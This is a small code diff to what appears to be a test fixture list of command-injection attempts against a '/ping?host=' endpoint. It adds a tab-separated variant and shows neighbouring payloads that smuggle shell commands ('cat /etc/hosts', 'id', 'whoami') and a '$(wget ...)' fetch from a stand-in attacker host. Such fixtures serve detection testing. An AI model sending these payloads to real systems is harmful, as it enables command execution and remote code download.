@@ -96,6 +96,7 @@ export const attempts: ReadonlyArray<Attempt> = [
     rule: "command-injection",
     requests: [
       "/ping?host=1.1.1.1;cat+/etc/hosts",
+      "/ping?host=1.1.1.1;cat\t/etc/hosts",
       "/ping?host=1.1.1.1%7Cid",
       "/ping?host=a%26%26whoami",
       "/ping?host=$(wget+http://evil.example/x)",
